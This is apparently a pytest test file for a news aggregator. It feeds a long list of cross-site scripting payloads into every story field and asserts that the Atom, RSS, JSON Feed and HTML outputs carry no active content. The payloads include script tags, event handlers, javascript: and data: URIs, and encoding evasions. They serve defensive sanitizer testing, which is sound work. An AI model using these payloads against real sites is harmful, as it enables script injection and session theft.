"""Attacks through every field, in every format: nothing that comes out is active."""

import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from xml.etree import ElementTree as ET

import pytest
from rfc4287 import ATOM, faults, parsed
from sample_stories import FEED, NOW, story, telling

from aggregator.intake.sanitize import clean_html
from aggregator.model import Folded, Kind, Signal, Story
from aggregator.output.atom import render_atom
from aggregator.output.entry import out_entries
from aggregator.output.jsonfeed import render_json
from aggregator.output.remarks import folded_entries
from aggregator.output.rss import render_rss
from aggregator.web import pages
from aggregator.web.view import CategoryView, StoryView

CONTENT = "{http://purl.org/rss/1.0/modules/content/}encoded"
ALERTS = ("alert(1)", "alert`1`", "top[`al`+`ert`](1)", "import('//x.example/x')")
SHAPES = (
    "<script>{}</script>",
    "<ScRiPt\n>{}</sCrIpT\t>",
    "<script src=//x.example/x.js></script>",
    '"><script>{}</script>',
    "</title><script>{}</script>",
    "]]><script>{}</script>",
    "<img src=x onerror={}>",
    '<img src="x" OnError = "{}">',
    "<img/src=x/onerror={}>",
    "<img src=x\x0conerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{}'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><i title='--&gt;&lt;i onclick={}&gt;'>",
    "<math href='javascript:{}'>x</math>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='&lt;script&gt;{}&lt;/script&gt;'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<a href='javascript:{}'>x</a>",
    "<a href=' jAvAsCrIpT:{}'>x</a>",
    "<a href='java\tscript:{}'>x</a>",
    "<a href='&#106;avascript:{}'>x</a>",
    "<a href='data:text/html,<script>{}</script>'>x</a>",
    "<a href='vbscript:{}'>x</a>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<button formaction='javascript:{}'>x</button>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<body onload={}>",
    "<base href='javascript:{}//'>",
    "<link rel=stylesheet href='javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<style>@import 'javascript:{}';</style>",
    "<p style='background:url(javascript:{})'>x</p>",
    "<p style='behavior:url(x.htc)' onclick={}>x</p>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<textarea><img title='</textarea><img src=x onerror={}>'>",
    "<xmp><img title='</xmp><img src=x onerror={}>'>",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml-stylesheet href='javascript:{}'?>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;",
    "\u202e<script>{}</script>",
    "<scr\x00ipt>{}</scr\x00ipt>",
    "javascript:{}",
    "https://x.example/'onmouseover='{}",
    'https://x.example/"><script>{}</script>',
)
ATTACKS = [shape.replace("{}", alert) for shape in SHAPES for alert in ALERTS]
_SCHEME = re.compile(r"^[\s\x00-\x20]*(javascript|vbscript|data)\s*:", re.IGNORECASE)
_ACTIVE = {
    "applet", "base", "button", "embed", "form", "frame", "iframe", "input", "link", "math", "meta",
    "object", "script", "style", "svg", "template", "textarea",
}  # fmt: skip


class Watch(HTMLParser):
    """Notes what a browser would do on its own."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _ACTIVE:
            self.seen.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc"}:
                self.seen.append(f"{tag} {name}")
            if name in {"href", "src", "action", "xlink:href"} and _SCHEME.match(value or ""):
                self.seen.append(f"{tag} {name}={value}")


def attacked(attack: str) -> Story:
    """Return a story that carries the attack in every field, as intake lets it through."""
    return story(
        title=attack,
        link=attack,
        html=clean_html(f"<p>News</p>{attack}", None),
        tellings=(telling(1), telling(2, title=attack, url=attack, outlet=attack)),
        categories=(),
        authors=(attack,),
        tags=(attack,),
        lang=attack,
        image=attack,
        rights=attack,
        source_title=attack,
        source_url=attack,
    )


def addresses(root: ET.Element) -> Iterator[str]:
    for element in root.iter():
        yield from (element.get(name, "") for name in ("href", "url", "src") if element.get(name))


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_active_comes_out(attack: str) -> None:
    told = attacked(attack)
    entries = out_entries(FEED, [told])
    atom = render_atom(FEED, entries)
    assert faults(atom) == []
    rss = parsed(render_rss(FEED, entries))
    (item,) = json.loads(render_json(FEED, entries))["items"]
    html = [
        parsed(atom).findtext(f"{ATOM}entry/{ATOM}content", ""),
        rss.findtext(f"channel/item/{CONTENT}", ""),
        item["content_html"],
        # Of RSS, readers take every text for HTML.
        *(element.text or "" for element in rss.iter()),
    ]
    assert [seen for text in html for seen in Watch(text).seen] == []
    reached = [*addresses(parsed(atom)), *addresses(rss), item["url"], item.get("image", "")]
    assert [address for address in reached if _SCHEME.match(address)] == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_active_stands_in_a_page_or_a_reason(attack: str) -> None:
    told = attacked(attack)
    shown = [
        pages.story("./", StoryView(told, told.lead_entry_id), ()),
        pages.category("./", CategoryView("nato", attack, 1, NOW), [told]),
        pages.search("./", attack, [told]),
    ]
    ours = {"link", "link href=data:,", "meta", "form", "input", "button"}
    active = [seen for page in shown for seen in Watch(page).seen if seen not in ours]
    assert active == []
    folded = Folded(
        telling(2, title=attack, url=attack, outlet=attack, kind=Kind.COPY),
        0.5,
        (Signal(attack, 1.0, 1.0),),
        "k1",
        attack,
        attack,
    )
    (reason,) = folded_entries(FEED, "tag:x,2026", [folded])
    assert Watch(reason.html).seen == []
    assert not _SCHEME.match(reason.alternate)
